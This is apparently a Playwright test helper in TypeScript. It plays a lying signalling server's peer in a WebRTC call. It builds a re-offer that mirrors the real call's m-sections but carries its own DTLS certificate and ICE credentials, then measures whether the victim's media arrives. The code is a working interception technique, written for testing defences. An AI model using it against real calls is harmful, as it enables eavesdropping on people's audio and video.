import type { Page } from '@playwright/test';

/*
 * The other end a lying server would give a call: a plain RTCPeerConnection in a page of its own,
 * with its own DTLS certificate, that makes a re-offer the victim's WebRTC would take: the real
 * offer's m-sections in the same order (so the same mids), as a renegotiation must have them, and
 * everything else (ICE credentials, candidates, certificate) its own. If the victim answered, its
 * DTLS would run with this peer and its media would flow here.
 */

export interface AttackerStats {
  /** Every connectionState the attacker's peer went through. */
  states: string[];
  packetsReceived: number;
  bytesReceived: number;
  framesDecoded: number;
  /** The DTLS state of its transport: 'connected' means the victim ran DTLS with it. */
  dtlsState: string | null;
}

interface AttackerWindow {
  attackerPeer?: RTCPeerConnection;
  attackerStates?: string[];
}

export class ReofferAttacker {
  private constructor(private readonly page: Page) {}

  static open(page: Page): ReofferAttacker {
    return new ReofferAttacker(page);
  }

  /** The re-offer, with every candidate in it, and the fingerprint of the certificate it names. */
  async reoffer(realOffer: string): Promise<{ sdp: string; fingerprint: string }> {
    return this.page.evaluate(async (offer) => {
      const algorithm: EcKeyGenParams = { name: 'ECDSA', namedCurve: 'P-256' };
      const certificate = await RTCPeerConnection.generateCertificate(algorithm);
      const pc = new RTCPeerConnection({ certificates: [certificate], bundlePolicy: 'max-bundle', rtcpMuxPolicy: 'require' });
      const states: string[] = [];
      pc.addEventListener('connectionstatechange', () => states.push(pc.connectionState));
      const own = window as unknown as AttackerWindow;
      own.attackerPeer = pc;
      own.attackerStates = states;
      // The real offer's m-sections, in order, so that this offer renegotiates the same ones.
      for (const kind of offer.split(/\r?\n/).filter((line) => line.startsWith('m=')).map((line) => line.slice(2).split(' ')[0])) {
        if (kind === 'application') pc.createDataChannel('attacker');
        else if (kind === 'audio' || kind === 'video') pc.addTransceiver(kind, { direction: 'recvonly' });
      }
      await pc.setLocalDescription(await pc.createOffer());
      await new Promise<void>((resolve) => {
        if (pc.iceGatheringState === 'complete') resolve();
        pc.addEventListener('icegatheringstatechange', () => { if (pc.iceGatheringState === 'complete') resolve(); });
        setTimeout(resolve, 5_000);
      });
      const sdp = pc.localDescription?.sdp ?? '';
      const fingerprint = /^a=fingerprint:(.+)$/m.exec(sdp)?.[1]?.trim() ?? '';
      const mids = (text: string) => [...text.matchAll(/^a=mid:(\S+)/gm)].map((match) => match[1]).join(',');
      if (mids(sdp) !== mids(offer)) throw new Error(`the re-offer's mids ${mids(sdp)} differ from the call's ${mids(offer)}`);
      return { sdp, fingerprint };
    }, realOffer);
  }

  /** What the victim sent back (an answer or a candidate), as simple-peer emitted it. */
  async take(data: Record<string, unknown>): Promise<void> {
    await this.page.evaluate(async (signal) => {
      const pc = (window as unknown as AttackerWindow).attackerPeer;
      if (pc === undefined) return;
      if (typeof signal['sdp'] === 'string' && signal['type'] === 'answer') await pc.setRemoteDescription({ type: 'answer', sdp: signal['sdp'] });
      const candidate = signal['candidate'];
      if (typeof candidate === 'object' && candidate !== null) await pc.addIceCandidate(candidate as RTCIceCandidateInit).catch(() => undefined);
    }, data);
  }

  async stats(): Promise<AttackerStats> {
    return this.page.evaluate(async () => {
      const own = window as unknown as AttackerWindow;
      const totals: AttackerStats = { states: [...(own.attackerStates ?? [])], packetsReceived: 0, bytesReceived: 0, framesDecoded: 0, dtlsState: null };
      if (own.attackerPeer === undefined) return totals;
      const report = await own.attackerPeer.getStats();
      report.forEach((entry: { type?: string; packetsReceived?: number; bytesReceived?: number; framesDecoded?: number; dtlsState?: string }) => {
        if (entry.type === 'transport') totals.dtlsState = entry.dtlsState ?? null;
        if (entry.type !== 'inbound-rtp') return;
        totals.packetsReceived += entry.packetsReceived ?? 0;
        totals.bytesReceived += entry.bytesReceived ?? 0;
        totals.framesDecoded += entry.framesDecoded ?? 0;
      });
      return totals;
    });
  }

  async close(): Promise<void> {
    await this.page.evaluate(() => { (window as unknown as AttackerWindow).attackerPeer?.close(); });
  }
}
